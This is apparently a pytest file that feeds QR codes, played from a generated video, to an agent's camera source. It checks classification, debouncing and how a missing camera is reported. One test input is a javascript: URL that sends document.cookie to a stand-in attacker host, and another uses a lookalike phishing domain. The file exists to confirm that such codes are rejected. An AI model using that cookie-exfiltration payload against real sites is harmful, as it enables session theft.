"""The agent's QR source end to end: a camera played from a generated MJPG video through
cv2.VideoCapture, codes held in view for many frames, each becoming one classified
`o2o.qr.scan` in the outbox; hostile codes arrive as a reason only; a missing camera is
reported while the agent goes on."""

from __future__ import annotations

import json
import subprocess
import time
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from agent.keys import public_key_text
from drivers.qr.pickup import make_code
from simulators.camera_files import blank, write_video
from simulators.qr_frames import make_frame
from tests.conftest import CLI, ROOT, AgentProcess, wait_for, write_config


def _config(tmp_path: Path, camera: str, key: Ed25519PrivateKey, extra: str = "") -> Path:
    return write_config(tmp_path / "config.toml", url="", extra=f"""
[qr]
enabled = true
camera = "{camera}"
fps_limit = 30
domains = ["shop.example"]
pickup_public_keys = ["{public_key_text(key.public_key())}"]
debounce_s = 3.0
{extra}
""")


def _export(cfg: Path) -> tuple[str, list[dict]]:  # type: ignore[type-arg]
    res = subprocess.run([*CLI, "outbox", "export", "--config", str(cfg)], capture_output=True,
                         text=True, cwd=ROOT, timeout=60)
    assert res.returncode == 0, res.stderr
    events = [json.loads(line) for line in res.stdout.splitlines()]
    return res.stdout, [e for e in events if e["type"] == "o2o.qr.scan"]


def test_codes_shown_to_the_camera_become_one_classified_scan_each(
        tmp_path: Path, agent_factory: list[AgentProcess]) -> None:
    key = Ed25519PrivateKey.generate()
    pickup = make_code(key, "A-1042", int(time.time()) + 3600, "store-1")
    shown = [
        pickup,
        "https://shop.example/p/778?utm_source=poster&utm_campaign=winter",
        "javascript:fetch('//evil.example/'+document.cookie)",
        "https://shop.example.evil.example/login",
        make_code(key, "A-0001", int(time.time()) - 60, "store-1"),  # expired
    ]
    frames = []
    for i, payload in enumerate(shown):
        # held in view for 1.5 s (45 frames, the code moving a little), then gone for 0.5 s
        frames += [make_frame(payload, (640, 480), ("jpeg",), seed=i * 100 + k).image
                   for k in range(45)]
        frames += [blank((640, 480))] * 15
    video = tmp_path / "counter.avi"
    write_video(video, frames, fps=30)
    cfg = _config(tmp_path, str(video), key)
    agent = AgentProcess(cfg)
    agent_factory.append(agent)
    agent.start()
    wait_for(lambda: agent.status()["qr"]["camera"]["state"] == "ended", 60,
             what=lambda: f"the video played: {agent.status()['qr']}")
    st = agent.status()["qr"]
    assert agent.stop() == 0
    text, scans = _export(cfg)
    got = [s["data"] for s in scans]
    assert [d["class"] for d in got] == ["pickup", "product", "rejected", "rejected", "rejected"]
    assert got[0]["order"] == "A-1042"
    assert got[1]["product"] == "778" and got[1]["utm"] == {"source": "poster",
                                                             "campaign": "winter"}
    assert [d["reason"] for d in got[2:]] == ["scheme-not-allowed", "host-not-allowlisted",
                                              "pickup-expired"]
    for hostile in ("javascript", "evil.example", "cookie", "A-0001"):
        assert hostile not in text
    # every code was seen in many frames, and counted once
    assert st["scans"] == 5 and st["debounced"] > 5 * 20 and st["frames_decoded"] > 0


def test_missing_camera_and_reader_are_reported_and_the_agent_goes_on(
        tmp_path: Path, agent_factory: list[AgentProcess]) -> None:
    cfg = _config(tmp_path, str(tmp_path / "no-such-camera.avi"), Ed25519PrivateKey.generate(),
                  extra='[nfc]\nenabled = true\nreader = "usb:054c:06c3"\n')
    agent = AgentProcess(cfg)
    agent_factory.append(agent)
    agent.start()
    wait_for(lambda: agent.status()["qr"]["camera"]["opens"] >= 2, 30,
             what="the camera retried")
    wait_for(lambda: agent.status()["nfc"]["reader"]["state"] == "no-reader", 30,
             what=lambda: f"the reader reported missing: {agent.status()['nfc']}")
    st = agent.status()
    assert st["qr"]["camera"]["state"] == "missing"
    assert "cannot open" in st["qr"]["camera"]["last_error"]
    assert st["components"]["qr"]["state"] == st["components"]["nfc"]["state"] == "running"
    # the agent still takes events
    res = subprocess.run([*CLI, "emit", "--config", str(cfg), "--type", "o2o.kiosk.view"],
                         capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert res.returncode == 0, res.stderr
    human = subprocess.run([*CLI, "status", "--config", str(cfg)], capture_output=True,
                           text=True, cwd=ROOT, timeout=60).stdout
    assert "qr         missing" in human and "cannot open" in human
    assert "nfc        no-reader  usb:054c:06c3" in human and "lsusb" in human
    assert agent.stop() == 0
